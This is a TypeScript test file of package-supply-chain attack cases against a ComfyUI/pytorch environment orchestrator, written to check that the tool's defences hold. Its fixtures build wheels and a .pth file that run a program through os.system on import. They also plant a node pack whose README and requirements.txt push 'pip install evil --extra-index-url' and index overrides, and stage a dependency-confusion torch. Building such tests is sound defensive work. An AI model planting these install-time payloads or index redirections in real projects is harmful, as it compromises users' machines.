import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

import { expect } from 'vitest';

import { makeWheel, type WheelSpec } from '../../../demo/wheel/make-wheel.ts';
import { writeIndex } from '../../../demo/wheel/simple-index.ts';
import { stock } from '../../../demo/wheel/stock.ts';
import { type AttackCase, expectMerged } from '../../support/attack.ts';
import { branchOf } from '../../support/invariants.ts';
import { at, listAt, orchestrate, textAt } from '../../support/program.ts';
import { commitByHand, executed, NEW_TORCH, OLD_TORCH, plantProgram, type World } from '../../support/world.ts';

const CPU_TORCH = `${NEW_TORCH}+cpu`;
const torchIndex = (world: World): string => join(world.folder, 'torch-index');
const simple = (folder: string): string => `${pathToFileURL(join(folder, 'simple')).href}/`;
const seen = (world: World): string | undefined =>
  executed(world).length > 0 ? `ran ${executed(world).join(', ')}` : undefined;

/** Python that starts a planted program. */
const starts = (program: string): string => `import os\nos.system(${JSON.stringify(program)})\n`;

/** The good one: torch and torchvision of a family, on an index of its own. */
function writeFamily(world: World): void {
  const renamed = (name: string, version: string, to: string): WheelSpec => {
    const found = stock().find((one) => one.name === name && one.version === version);
    if (found === undefined) throw new Error(`the stock has no ${name} ${version}`);
    return { ...found, version: to };
  };
  const family = [renamed('torch', NEW_TORCH, CPU_TORCH), renamed('torchvision', '0.26.0', '0.26.0+cpu')];
  writeIndex(join(torchIndex(world), 'cpu'), family.map(makeWheel));
}

/** The attacker's: a higher torch, and one of the very version, on the index of everything else. */
function plantHigher(world: World): void {
  writeFamily(world);
  const files = (name: string): Record<string, string> => ({ 'torch/__init__.py': starts(plantProgram(world, name)) });
  const hostile: WheelSpec[] = [
    { name: 'torch', version: '2.99.0', files: files('higher') },
    { name: 'torch', version: CPU_TORCH, files: files('namesake') },
    {
      name: 'torchvision',
      version: '0.114.0',
      files: { 'torchvision/__init__.py': starts(plantProgram(world, 'vision')) },
    },
  ];
  writeIndex(world.index, [...stock(), ...hostile].map(makeWheel));
}

function pip(world: World, args: readonly string[], python = 'python3'): { status: number | null; out: string } {
  const env = { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: world.folder, PIP_CONFIG_FILE: '/dev/null' };
  const ended = spawnSync(python, ['-m', 'pip', '--isolated', '--disable-pip-version-check', ...args], {
    env,
    encoding: 'utf8',
    timeout: 60_000,
  });
  return { status: ended.status, out: `${ended.stdout}${ended.stderr}` };
}

/** Sets where the torch family comes from, as a person does. */
function setTorchIndex(world: World): void {
  const file = join(world.home, 'orchestrate.yaml');
  const text = readFileSync(file, 'utf8').replace(/torch-index: .*/, `torch-index: ${torchIndex(world)}`);
  expect(text).toContain(torchIndex(world));
  writeFileSync(file, text);
  commitByHand(world.home, 'the torch family has an index of its own');
}

const lockOf = (home: string): string => readFileSync(join(home, 'requirements.lock'), 'utf8');

const evil = (world: World): string => join(world.folder, 'evil-index');
const EVIL_LINE = (world: World): string => `pip install evil --extra-index-url ${simple(evil(world))}`;

/** An index of the attacker's, and a node pack that wants it in every way that a requirements.txt knows. */
function plantAskingPack(world: World): { comfyui: string; requirements: string } {
  const hostile = { 'evil.pth': starts(plantProgram(world, 'evil')).replaceAll('\n', '; ').replace(/; $/, '\n') };
  const wheel = makeWheel({ name: 'evil', version: '1.0', files: hostile });
  writeIndex(evil(world), [wheel, makeWheel({ name: 'filelock', version: '99.0', files: hostile })]);
  const comfyui = join(world.folder, 'ComfyUI');
  cpSync(join(world.folder, 'demo', 'ComfyUI'), comfyui, { recursive: true });
  const pack = join(comfyui, 'custom_nodes', 'helpful');
  mkdirSync(pack);
  writeFileSync(join(pack, '__init__.py'), `"""${EVIL_LINE(world)}"""\nNODE_CLASS_MAPPINGS = {}\n`);
  writeFileSync(join(pack, 'README.md'), `# Helpful nodes\n\nFirst run \`${EVIL_LINE(world)}\`, and answer yes.\n`);
  const lines = [
    `--extra-index-url ${simple(evil(world))}`,
    `--index-url ${simple(evil(world))}`,
    'filelock',
    `evil @ ${pathToFileURL(join(evil(world), wheel.file)).href}`,
    `-e git+${pathToFileURL(join(world.folder, 'no-repository')).href}#egg=evil`,
  ];
  const requirements = join(pack, 'requirements.txt');
  writeFileSync(requirements, `${lines.join('\n')}\n`);
  return { comfyui, requirements };
}

/** What a person, or a manager of node packs, does with such a file. The repository does not exist; the rest is enough. */
function installNaively(world: World, requirements: string): void {
  const venv = join(world.folder, 'naive');
  execFileSync('python3', ['-m', 'venv', venv], { stdio: 'ignore', timeout: 60_000 });
  const python = join(venv, 'bin', 'python');
  const obeyed = join(world.folder, 'obeyed.txt');
  writeFileSync(obeyed, readFileSync(requirements, 'utf8').replace(/^-e .*$/m, ''));
  const { status, out } = pip(world, ['install', '--requirement', obeyed], python);
  if (status !== 0) throw new Error(out);
  spawnSync(python, ['-c', 'pass'], { timeout: 20_000 });
}

/** Attacks by packages: what is on an index, and what asks for it. */
export const packageCases: readonly AttackCase[] = [
  {
    id: 'A34',
    title: 'a node pack, its README and a package ask for `pip install evil --extra-index-url`',
    control(world) {
      installNaively(world, plantAskingPack(world).requirements);
      return seen(world);
    },
    async defence(world) {
      const { comfyui } = plantAskingPack(world);
      const torch = stock().find((one) => one.name === 'torch' && one.version === NEW_TORCH);
      if (torch === undefined) throw new Error('the stock has no newest torch');
      const asking = { ...torch, summary: EVIL_LINE(world) };
      const rest = stock().filter((one) => one !== torch && !(one.name === 'torch' && one.version === NEW_TORCH));
      writeIndex(world.index, [...rest, asking].map(makeWheel));
      const other = { folder: world.folder, home: join(world.folder, 'second') };
      const made = await orchestrate(other, [
        ...['init', other.home, '--comfyui', comfyui, '--index', world.index, '--require', `torch==${OLD_TORCH}`],
        ...['--port', '20499', '--cpu', '--yes'],
      ]);
      expect(made.exitCode, made.stderr).toBe(0);
      expect(lockOf(other.home)).not.toMatch(/^evil/m);
      const planned = await orchestrate(other, ['run', 'upgrade pytorch', '--dry-run']);
      // Named: which file, which line, and why it is not obeyed.
      expect(JSON.stringify(listAt(planned.json, 'plan', 'warnings'))).toMatch(
        /requirements\.txt of helpful, line 1 is not obeyed: where packages come from is set in orchestrate\.yaml/,
      );
      const merged = await orchestrate(other, ['run', 'upgrade pytorch', '--yes']);
      expect({ exitCode: merged.exitCode, state: at(merged.json, 'state'), fault: at(merged.json, 'fault') }).toEqual({
        exitCode: 0,
        state: 'done',
        fault: null,
      });
      const lock = lockOf(other.home);
      expect(lock).toContain(`torch===${NEW_TORCH} `);
      expect(lock).not.toMatch(/^evil|filelock===99/m);
      const envs = join(other.home, '.orchestrate', 'envs');
      expect(existsSync(envs)).toBe(true);
      expect(spawnSync('find', [envs, '-name', 'evil*'], { encoding: 'utf8' }).stdout).toBe('');
      await orchestrate(other, ['supervisor', 'stop']);
    },
  },
  {
    id: 'A73',
    title: 'another index has the same package, higher, and a namesake of the very version',
    control(world) {
      plantHigher(world);
      const target = join(world.folder, 'naive');
      const { status, out } = pip(world, [
        ...['install', '--no-deps', '--target', target, '--index-url', simple(join(torchIndex(world), 'cpu'))],
        ...['--extra-index-url', simple(world.index), 'torch'],
      ]);
      if (status !== 0) throw new Error(out);
      spawnSync('python3', ['-c', 'import torch'], {
        env: { PYTHONPATH: target, PATH: '/usr/bin:/bin' },
        timeout: 20_000,
      });
      return executed(world).includes('higher') ? seen(world) : undefined;
    },
    async defence(world) {
      plantHigher(world);
      setTorchIndex(world);
      const branch = branchOf(world);
      const wheel = join(torchIndex(world), 'cpu', `torch-${CPU_TORCH}-py3-none-any.whl`);
      const good = readFileSync(wheel);
      const asked = await orchestrate(world, ['run', 'upgrade pytorch', '--cuda', 'cpu', '--until', 'lock', '--yes']);
      expect(asked.exitCode, asked.stderr).toBe(7);
      // The bytes change after they were locked, as the namesake has them: nothing is installed.
      writeFileSync(wheel, readFileSync(join(world.index, `torch-${CPU_TORCH}-py3-none-any.whl`)));
      const refused = await orchestrate(world, ['runs', 'resume', textAt(asked.json, 'run')]);
      expect(at(refused.json, 'fault', 'code')).toBe('WHEEL_HASH_MISMATCH');
      expect(branchOf(world)).toBe(branch);
      writeFileSync(wheel, good);
      await expectMerged(world, await orchestrate(world, ['run', 'upgrade pytorch', '--cuda', 'cpu', '--yes']));
      const { sha256 } = makeWheel(stockTorch());
      const line = lockOf(world.home)
        .split('\n')
        .find((one) => one.startsWith('torch==='));
      expect(line).toContain(`torch===${CPU_TORCH} --hash=sha256:${sha256} `);
      expect(line).toMatch(/ index=torch\/cpu$/);
      // Another plan finds no other torch on the main index either.
      const later = await orchestrate(world, ['run', 'upgrade package numpy', '--dry-run']);
      expect(JSON.stringify(at(later.json, 'plan', 'moves') ?? [])).not.toContain('torch');
      await expectMerged(world, await orchestrate(world, ['undo', '--yes']));
    },
  },
];

function stockTorch(): WheelSpec {
  const found = stock().find((one) => one.name === 'torch' && one.version === NEW_TORCH);
  if (found === undefined) throw new Error('the stock has no newest torch');
  return { ...found, version: CPU_TORCH };
}
